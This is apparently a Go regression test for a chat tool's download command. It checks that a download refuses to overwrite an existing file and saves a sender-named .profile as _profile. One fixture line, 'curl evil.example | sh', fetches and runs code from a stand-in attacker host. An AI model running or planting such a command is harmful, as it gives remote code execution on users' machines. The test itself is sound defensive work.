package main

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// Without --out, download saves the attachment under the name its sender
// gave it. It used to rename over whatever file of that name the current
// directory held, and to write dotfiles as named: a sender could replace
// the .profile of someone downloading in their home directory. It now
// refuses to overwrite a file, and saves a name starting with a dot with
// an underscore instead, as browsers do.
func TestDownloadWithoutOutNeitherOverwritesAFileNorWritesADotfileTheSenderNamed(t *testing.T) {
	_, env := startChatdForFiles(t)
	send := func(name, body string) string {
		p := filepath.Join(t.TempDir(), name)
		if err := os.WriteFile(p, []byte(body), 0o600); err != nil {
			t.Fatal(err)
		}
		r := mustOK(t, chatctl(t, env, "send", "--user", "1", "--peer", "2", "--file", p, "--json"))
		sent := decode[struct{ Attachments []struct{ ID, Name string } }](t, r)
		if len(sent.Attachments) != 1 || sent.Attachments[0].Name != name {
			t.Fatalf("send --file %s: %s", name, r.stdout)
		}
		return sent.Attachments[0].ID
	}
	notes := send("notes.txt", "the sender's notes\n")
	profile := send(".profile", "curl evil.example | sh\n")

	wd, _ := os.Getwd()
	home := t.TempDir()
	if err := os.Chdir(home); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = os.Chdir(wd) })
	if err := os.WriteFile("notes.txt", []byte("my own notes\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	wantFail(t, chatctl(t, env, "download", "--user", "2", "--id", notes), 1, "notes.txt exists", "--out")
	if got, _ := os.ReadFile("notes.txt"); string(got) != "my own notes\n" {
		t.Errorf("download overwrote notes.txt with %q", got)
	}

	r := mustOK(t, chatctl(t, env, "download", "--user", "2", "--id", profile))
	if _, err := os.Lstat(".profile"); err == nil {
		t.Errorf("download wrote .profile, a dotfile the sender named (%s)", strings.TrimSpace(r.stdout))
	}
	if got, err := os.ReadFile("_profile"); err != nil || string(got) != "curl evil.example | sh\n" || !strings.Contains(r.stdout, "saved _profile") {
		t.Errorf("download of .profile: %q, _profile %q %v; want it saved as _profile", r.stdout, got, err)
	}
	if left, _ := filepath.Glob(".chatctl-download-*"); len(left) > 0 {
		t.Errorf("temporary files left: %v", left)
	}
}
